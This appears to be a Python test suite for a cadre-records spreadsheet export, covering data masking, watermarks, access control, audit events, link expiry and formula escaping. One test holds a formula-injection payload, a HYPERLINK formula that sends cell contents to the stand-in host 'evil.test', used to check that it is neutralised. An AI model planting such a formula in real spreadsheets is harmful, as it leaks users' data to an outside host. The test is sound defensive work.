"""Exports: masked, marked, only one's own reach, and never a formula."""

import zipfile
from datetime import date
from io import BytesIO
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import delete, update

from tests.core.cadres.personal import ADDRESS, BANK_ACCOUNT, PHONE, events, give_contact
from tests.core.exports.exporting import REASON, ask, content_of, names, sheets, stored, with_settings, written
from tests.factories.world import FANGSHAN, World
from xuanpai_core.authz.models import PolicyEffect, PolicyOverride, PolicyVersion
from xuanpai_core.cadres.models import Cadre
from xuanpai_core.clock import FixedClock
from xuanpai_core.errors import Forbidden
from xuanpai_core.exports.errors import ExportNotFound, ExportNotReady, NothingToExport
from xuanpai_core.exports.models import ExportState
from xuanpai_core.exports.run import sweep_exports
from xuanpai_core.exports.selection import Selection
from xuanpai_core.exports.service import export_link
from xuanpai_core.exports.workbook import TITLES
from xuanpai_core.identity.models import Appointment
from xuanpai_core.jobs.worker import run_worker
from xuanpai_core.spreadsheets import cell_text


async def test_a_county_exports_its_cadres_masked(world: World) -> None:
    await give_contact(world)

    export = await written(world, "county")
    rows, _ = await sheets(world, export)

    assert (export.state, export.row_count, export.approved) == (ExportState.READY, 3, False)
    assert rows[1] == list(TITLES)
    assert [row for row in rows[2:] if row[0] == "王建国"] == [
        [
            "王建国",
            "男",
            "210***********0000",
            "138****1234",
            "***************0128",
            "辽宁省锦州市黑山县芳山镇***",
            "中共党员",
            "行政编制",
            "锦州市公安局",
            "市派",
            "第一书记",
            rows[2:][[row[0] for row in rows[2:]].index("王建国")][11],
            "2025-01-01",
            "2027-12-31",
            "",
        ]
    ]
    assert {row[0] for row in rows[2:]} == {"王建国", "李秀英", "张伟"}


async def test_nothing_in_the_file_is_in_clear(world: World) -> None:
    await give_contact(world)

    export = await written(world, "county")

    parts = zipfile.ZipFile(BytesIO(await content_of(world, export)))
    text = "".join(parts.read(name).decode(errors="replace") for name in parts.namelist())
    assert not any(secret in text for secret in (PHONE, BANK_ACCOUNT, ADDRESS, "210700198001010000"))
    assert "<f>" not in text


async def test_every_sheet_says_who_took_it_out_when_and_from_where(world: World) -> None:
    export = await written(world, "county")

    for rows in await sheets(world, export):
        assert rows[0][0] == (f"辽宁省 county 于 2025-10-24 09:00 导出(编号 {export.id});已脱敏,仅限工作使用,不得外传")
    parts = zipfile.ZipFile(BytesIO(await content_of(world, export)))
    for sheet in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        assert "<oddHeader>&amp;L辽宁省 county 于 2025-10-24 09:00 导出" in parts.read(sheet).decode()


@pytest.mark.parametrize("name", ["=1+1", "+86", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＠1"])
def test_a_text_that_begins_like_a_formula_is_escaped(name: str) -> None:
    assert cell_text(name) == "'" + name


async def test_a_formula_in_a_name_arrives_as_text(world: World) -> None:
    formula = '=HYPERLINK("http://evil.test?"&A1,"点我")'
    async with world.database.work(world.ctx("county")) as work:
        changed = update(Cadre).where(Cadre.tenant_id == world.tenant_id, Cadre.id == world.cadres["王建国"])
        await work.session.execute(changed.values(name=formula))

    export = await written(world, "county")

    assert "'" + formula in await names(world, export)


@pytest.mark.parametrize(
    ("person", "selection", "found"),
    [
        ("city", Selection(), {"王建国", "李秀英", "张伟", "刘洋", "陈静"}),
        ("city", Selection(region_code="210727"), {"刘洋", "陈静"}),
        ("county", Selection(region_code=FANGSHAN), {"王建国", "李秀英", "张伟"}),
        ("city", Selection(active_on=date(2025, 1, 1)), {"王建国", "李秀英", "张伟", "刘洋", "陈静"}),
    ],
)
async def test_the_selection_narrows_ones_reach(
    world: World, person: str, selection: Selection, found: set[str]
) -> None:
    assert await names(world, await written(world, person, selection)) == found


async def test_the_selection_by_sending_unit_narrows_too(world: World) -> None:
    selection = Selection(sending_unit_id=world.units["锦州市公安局"])

    assert await names(world, await written(world, "county", selection)) == {"王建国"}


async def test_a_place_beyond_reach_and_an_empty_selection_are_refused(world: World) -> None:
    with pytest.raises(Forbidden):
        await ask(world, "county", Selection(region_code="210727"))
    with pytest.raises(NothingToExport):
        await ask(world, "county", Selection(active_on=date(2024, 12, 31)))

    assert await events(world, "cadre:export") == []


@pytest.mark.parametrize("person", ["clerk", "secretary", "finance", "reader", "unit", "admin", "王建国"])
async def test_nobody_else_may_export(world: World, person: str) -> None:
    with pytest.raises(Forbidden):
        await ask(world, person)


async def test_asking_writing_and_fetching_are_on_record_with_the_number_of_cadres(world: World) -> None:
    export = await written(world, "county")
    async with world.database.work(world.ctx("county")) as work:
        await export_link(work, export.id)

    queued, done, fetched = await events(world, "cadre:export")

    assert (queued["reason"], queued["detail"]["rows"], queued["detail"]["step"]) == (REASON, 3, "queue")
    assert (done["detail"], done["account_id"]) == (
        {"rows": 3, "step": "written"},
        world.people["county"].account_id,
    )
    assert (fetched["kind"], fetched["detail"]["cadres"]) == ("READ", 3)


async def test_the_rows_are_those_within_reach_when_it_runs(world: World) -> None:
    asked = await ask(world, "county")
    async with world.database.work(world.ctx("province")) as work:
        moved = update(Appointment).where(
            Appointment.tenant_id == world.tenant_id, Appointment.account_id == world.people["county"].account_id
        )
        await work.session.execute(moved.values(region_code="210727"))
    await run_worker(world.database, world.database.settings, until_empty=True)

    assert await names(world, await stored(world, asked.export_id)) == {"刘洋", "陈静"}


async def test_whoever_has_lost_the_right_gets_no_file(world: World) -> None:
    asked = await ask(world, "county")
    async with world.database.work(world.ctx("province")) as work:
        await work.session.execute(
            delete(Appointment).where(
                Appointment.tenant_id == world.tenant_id, Appointment.account_id == world.people["county"].account_id
            )
        )
    await run_worker(world.database, world.database.settings, until_empty=True)

    export = await stored(world, asked.export_id)
    assert (export.state, export.failure, export.object_key) == (ExportState.FAILED, "RIGHTS_ENDED", None)


async def test_a_policy_that_has_changed_since_holds_for_the_job_too(world: World) -> None:
    asked = await ask(world, "county")
    async with world.database.work(world.ctx("security")) as work:
        work.session.add(
            PolicyOverride(
                tenant_id=world.tenant_id,
                role="county_organiser",
                action="cadre:export",
                effect=PolicyEffect.DENY,
                reason="县级不再导出",
                changed_by=world.people["security"].account_id,
            )
        )
        work.session.add(PolicyVersion(tenant_id=world.tenant_id, version=1))
    await run_worker(world.database, world.database.settings, until_empty=True)

    assert (await stored(world, asked.export_id)).failure == "RIGHTS_ENDED"


async def test_the_link_is_for_the_requester_alone_and_short_lived(world: World) -> None:
    export = await written(world, "county")
    async with world.database.work(world.ctx("county")) as work:
        url = await export_link(work, export.id)

    assert parse_qs(urlsplit(url).query)["X-Amz-Expires"] == ["60"]
    for person in ("city", "province"):
        with pytest.raises(ExportNotFound):
            async with world.database.work(world.ctx(person)) as work:
                await export_link(work, export.id)


async def test_the_file_is_withheld_once_the_reach_has_shrunk(world: World) -> None:
    export = await written(world, "city")
    async with world.database.work(world.ctx("province")) as work:
        stored_export = await work.session.get_one(type(export), (world.tenant_id, export.id))
        stored_export.requested_by = world.people["other_county"].account_id

    with pytest.raises(ExportNotFound):
        async with world.database.work(world.ctx("other_county")) as work:
            await export_link(work, export.id)


async def test_before_it_is_written_and_after_its_time_there_is_no_link(world: World, clock: FixedClock) -> None:
    asked = await ask(world, "county")
    assert asked.export_id is not None
    with pytest.raises(ExportNotReady):
        async with world.database.work(world.ctx("county")) as work:
            await export_link(work, asked.export_id)
    await run_worker(world.database, world.database.settings, until_empty=True)
    clock.advance(hours=24)
    with pytest.raises(ExportNotReady):
        async with world.database.work(world.ctx("county")) as work:
            await export_link(work, asked.export_id)

    removed = await sweep_exports(world.database, world.tenant_id)

    export = await stored(world, asked.export_id)
    assert (removed, export.state) == (1, ExportState.EXPIRED)
    assert export.object_key is not None
    assert await world.database.ports.objects.stat(export.object_key) is None


async def test_the_same_key_asks_once(world: World) -> None:
    one, two = await ask(world, "county"), await ask(world, "county")

    assert one == two
    assert len(await events(world, "cadre:export")) == 1


async def test_the_name_rule_holds_in_the_file(world: World) -> None:
    async with with_settings(world, name_mask="given") as ruled:
        export = await written(ruled, "county")

        assert await names(ruled, export) == {"王建国", "李秀英", "张伟"}
